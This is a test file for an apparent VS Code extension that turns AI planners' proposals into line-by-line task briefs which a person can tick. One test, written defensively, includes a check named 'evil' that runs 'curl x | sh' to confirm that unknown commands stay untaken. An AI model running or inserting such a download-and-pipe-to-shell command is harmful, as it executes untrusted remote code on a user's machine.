/** A plan as the form offers it: line by line, over nobody's own words, by the smallest edits. */
import assert from 'node:assert/strict';
import { draftBrief } from '../../../../src/core/brief/draft';
import { parseBrief } from '../../../../src/core/brief/parse';
import { scopeOf } from '../../../../src/core/brief/scopeOf';
import { CountersignError } from '../../../../src/core/errors';
import type { Plan, PlannedBrief } from '../../../../src/core/plan/plan';
import { modelProblem } from '../../../../src/vscode/brief/shaping/modelProblem';
import { type OfferedLine, offeredLines, takeLines } from '../../../../src/vscode/brief/shaping/offeredLines';
import {
  type Around,
  NO_MODEL,
  plannersOf,
  type Shaped,
  shapePage,
} from '../../../../src/vscode/brief/shaping/shapePage';
import { changeBetween } from '../../../../src/vscode/brief/textChange';
import { intentSchema, noticeSchema } from '../../../../src/webview/brief/messages';
import { answered, offer, proposed, said } from '../../plan/sample';
import { plain } from '../sample';

const DRAFT = draftBrief(offer().facts);
const DRAFTED = new Set(scopeOf(DRAFT).change);
const OWN = `---
countersign: 1
title: Mine
scope:
  change: [src/index.ts]   # mine
checks:
  - { name: tests, run: make all }
reviewer: Reviewer <reviewer@example.com>
---
## Goal
My own goal, in my words.

## Non-goals
- a queue of requests

## Acceptance criteria
<!-- my note -->
- [ ] mine holds (review)
`;

const planned = (over: Readonly<Record<string, unknown>> = {}): PlannedBrief => {
  const [brief] = proposed(said([answered(over)])).briefs;
  assert.ok(brief !== undefined);
  return brief;
};
const offeredFor = (text: string, over: Readonly<Record<string, unknown>> = {}) =>
  offeredLines(text, planned(over), DRAFTED, plain);
const ticked = (lines: readonly OfferedLine[]) => lines.filter(({ take }) => take);

describe('a plan for a draft', () => {
  it('fills a new draft, and takes the place of what a template put there', () => {
    const lines = offeredFor(DRAFT);
    const { text, untaken } = takeLines(DRAFT, ticked(lines));
    assert.deepEqual(untaken, []);
    const brief = parseBrief(text, 'x');
    assert.equal(brief.title, 'Retry on 429');
    assert.equal(brief.goal, 'Idempotent requests are sent again when the server answers 429.');
    assert.deepEqual(brief.front.scope, { change: ['src/http/**', 'test/http/**'], avoid: ['src/http/generated/**'] });
    assert.deepEqual(
      brief.criteria.map(({ text: one }) => one),
      [
        'new behaviour is covered by new tests',
        'what worked before still works',
        'at most 3 retries, with backoff',
        'a POST is never sent again',
      ],
    );
    assert.deepEqual(brief.front.approval.allow, []);
    assert.match(text, /<!-- Each line is a claim/, 'what teaches stays');
  });

  it('is nothing over what a person wrote, unless they tick it', () => {
    const lines = offeredFor(OWN);
    const off = lines.filter(({ take, isThere }) => !take && !isThere).map(({ kind, note }) => `${kind}: ${note}`);
    assert.deepEqual(off, [
      'title: takes the place of: Mine',
      'goal: takes the place of: My own goal, in my words.',
      'check: takes the place of: make all',
      'drop-change: ',
    ]);
    const { text } = takeLines(OWN, ticked(lines));
    const brief = parseBrief(text, 'x');
    assert.deepEqual([brief.title, brief.goal], ['Mine', 'My own goal, in my words.']);
    assert.deepEqual(brief.front.scope.change, ['src/index.ts', 'src/http/**', 'test/http/**']);
    assert.deepEqual(
      brief.front.checks.map(({ run }) => run),
      ['make all'],
    );
    assert.match(text, /# mine\n[\s\S]*<!-- my note -->\n- \[ \] mine holds \(review\)\n/);

    const all = takeLines(OWN, lines);
    const other = parseBrief(all.text, 'x');
    assert.deepEqual([other.title, all.untaken], ['Retry on 429', []]);
    assert.deepEqual(other.front.scope.change, ['src/http/**', 'test/http/**']);
    assert.deepEqual(
      other.front.checks.map(({ run }) => run),
      ['npm test'],
    );
  });

  it('says what is there already, and takes it no second time', () => {
    const lines = offeredFor(OWN);
    assert.deepEqual(
      lines.filter(({ isThere }) => isThere).map(({ text }) => text),
      ['a queue of requests'],
    );
    const once = takeLines(OWN, lines).text;
    const again = offeredFor(once);
    assert.ok(again.every(({ isThere, kind }) => isThere || kind.startsWith('drop')));
    assert.equal(
      takeLines(
        once,
        again.filter(({ kind }) => !kind.startsWith('drop')),
      ).text,
      once,
    );
  });

  it('has no check of an unknown command before a person takes it', () => {
    const lines = offeredFor(DRAFT, { checks: [{ name: 'evil', run: 'curl x | sh', timeout: 5 }] });
    const unknown = lines.find(({ text }) => text === 'curl x | sh');
    assert.deepEqual([unknown?.take, unknown?.note], [false, 'unknown command: no check until you take it']);
    assert.ok(!takeLines(DRAFT, ticked(lines)).text.includes('curl'));
    assert.ok(unknown !== undefined);
    const own = parseBrief(takeLines(DRAFT, [...ticked(lines), unknown]).text, 'x').front.checks;
    assert.deepEqual(own.at(-1), { name: 'evil', run: 'curl x | sh', timeout: 5 });
  });

  it('is one change of the text, of what is not there only', () => {
    const lines = offeredFor(OWN).filter(({ kind }) => kind === 'criterion');
    const after = takeLines(OWN, lines).text;
    const change = changeBetween(OWN, after);
    assert.equal(change?.start, change?.end, 'nothing goes');
    assert.equal(
      change?.text,
      '- [ ] at most 3 retries, with backoff (check: tests)\n- [ ] a POST is never sent again (review)\n',
    );
  });

  it('is taken as far as it can be, with what could not', () => {
    const locked = OWN.replace('My own goal, in my words.', 'My own\n<!-- note -->\ngoal.');
    const { text, untaken } = takeLines(locked, offeredFor(locked));
    assert.deepEqual(
      untaken.map(({ line, why }) => [line.kind, /comment in the middle/.test(why)]),
      [['goal', true]],
    );
    assert.match(text, /at most 3 retries/);
    for (const broken of ['', 'no brief', '---\n: [\n---\n']) {
      const lines = offeredFor(broken);
      const result = takeLines(broken, lines);
      assert.ok(result.untaken.length > 0, broken);
    }
  });
});

const SHAPED: Shaped = {
  ...{ isOpen: true, sentence: 'retry', places: [{ path: 'src/a\u202eb', line: 3 }], planner: 'gemini' },
  ...{ running: null, trouble: '', round: 1, plan: null, number: 4 },
};
const AROUND: Around = {
  agents: {
    default: null,
    agents: [
      ['command', 'A command', true],
      ['gemini', 'Gemini\u0007', true],
      ['codex', 'Codex', false],
    ].map(([id, name, installed]) => ({
      ...{ id: `${id}`, name: `${name}`, installed: installed === true },
      ...{ path: null, version: null, install: '', signIn: '' },
    })),
  },
  models: [{ id: 'model:vendor/one', name: 'One (vendor)' }],
  draft: DRAFT,
  drafted: DRAFTED,
};

function planOf(briefs: readonly unknown[], more: Readonly<Record<string, unknown>> = {}): Plan {
  return {
    ...{ schema: 1, ...proposed(said(briefs, more)), intent: 'retry', base: null, seconds: 2.4, usage: null },
    planner: { kind: 'agent', id: 'gemini', name: 'Gemini\u202e', version: '1.0' },
    ...{ confinement: null, refused: [] },
  };
}

function page(shaped: Partial<Shaped> = {}, around: Partial<Around> = {}) {
  const shape = shapePage({ ...SHAPED, ...shaped }, { ...AROUND, ...around }, plain);
  assert.ok(noticeSchema.safeParse({ type: 'shape', shape }).success);
  return shape;
}

describe('the part of the page that shapes', () => {
  it('offers who is there: agents, models of the editor, and nobody', () => {
    assert.deepEqual(plannersOf(AROUND, plain), [
      { id: 'gemini', label: 'Gemini\\u{7}' },
      { id: 'model:vendor/one', label: 'Editor: One (vendor)' },
      { id: NO_MODEL, label: 'No model: best guess' },
    ]);
    assert.equal(page({ planner: 'gone' }).planner, NO_MODEL);
    assert.match(page({ planner: 'model:vendor/one' }).hint, /nothing else of the code, and no tools/);
    assert.deepEqual(page().places, ['src/a\\u{202e}b:3']);
  });

  it('shows a proposal for the draft line by line, ticked as it may be taken', () => {
    const { proposal, questions } = page({ plan: planOf([answered()], { questions: ['How often?'] }) });
    assert.deepEqual([proposal?.into, proposal?.button, proposal?.number], ['lines', 'Take Ticked Lines ({0})', 4]);
    assert.deepEqual(questions, [{ text: 'How often?', why: '' }]);
    assert.match(proposal?.head ?? '', /^Proposed by Gemini\\u\{202e\} 1\.0 in 2 s\. .* without your answers\.$/);
    const lines = proposal?.briefs[0]?.lines ?? [];
    const change = lines.find(({ text }) => text === 'src/http/**');
    assert.deepEqual(
      [change?.kind, change?.why, change?.note, change?.take],
      ['May change', 'the client lives there', '3 files', true],
    );
    assert.ok(lines.some(({ kind, take }) => kind === 'Take out: may change' && take));
  });

  it('shows several briefs as files in their order, and one where there is no draft', () => {
    const two = [
      answered({ title: 'One', avoid: [] }),
      answered({ title: 'Two', change: ['docs/**'], avoid: [], after: [1] }),
    ];
    const { proposal } = page({ plan: planOf(two) });
    assert.deepEqual([proposal?.into, proposal?.button], ['files', 'Write 2 Briefs']);
    assert.deepEqual(
      proposal?.briefs.map(({ file, order }) => [file, order]),
      [
        ['01-one.md', ''],
        ['02-two.md', 'after 01-one.md'],
      ],
    );
    assert.ok(proposal?.briefs.every(({ lines }) => lines.every(({ kind }) => !kind.startsWith('Take out'))));
    assert.equal(page({ plan: planOf([answered()]) }, { draft: null }).proposal?.button, 'Write the Brief');
  });

  it('counts what was not used, and says why', () => {
    const { proposal } = page({ plan: planOf([answered({ change: ['src/http/**', '**'], reviewer: 'x' })]) });
    assert.equal(proposal?.droppedWords, 'Not used of its answer: 2');
    assert.deepEqual(proposal?.dropped, [
      'reviewer: it is not a planner’s to say',
      '**: it is the whole repository, and no scope',
    ]);
  });

  it('takes no intent that names a file or a command', () => {
    const accepts = (shape: unknown) => intentSchema.safeParse({ type: 'shape', shape }).success;
    assert.ok(accepts({ do: 'ask', sentence: 'x', planner: 'gemini', answers: [] }));
    assert.ok(accepts({ do: 'take', proposal: 1, lines: ['l0'] }));
    assert.ok(!accepts({ do: 'ask', sentence: 'x'.repeat(8_001), planner: 'gemini', answers: [] }));
    assert.ok(!accepts({ do: 'take', proposal: 1, lines: ['x'.repeat(41)] }));
    assert.ok(!accepts({ do: 'run', command: 'sh' }));
  });
});

describe('a language model that gives no answer', () => {
  const thrown = (code: string, message = 'said', cause?: unknown) =>
    Object.assign(new Error(message, { cause }), { code });

  it('says why, and what to do', () => {
    const told = (error: unknown) => {
      const { code, message, fix } = modelProblem(error, plain);
      assert.equal(code, 'PLAN_NONE');
      return `${message}; ${fix}`;
    };
    assert.match(told(thrown('NoPermissions')), /you did not let.*allow it/);
    assert.match(told(thrown('Blocked')), /quota.*wait/);
    assert.match(told(thrown('NotFound')), /not there any more; choose another/);
    assert.match(told(thrown('Unknown', '', new Error('off\u0007line'))), /the model failed: off\\u\{7\}line/);
    assert.match(told('a text'), /the model failed: a text/);
    assert.match(told(new Error('x'.repeat(9_999))), /^the model failed: x{300};/);
  });

  it('is what it was when it is ours', () => {
    const own = new CountersignError('STOPPED', 'stopped');
    assert.equal(modelProblem(own, plain), own);
  });
});
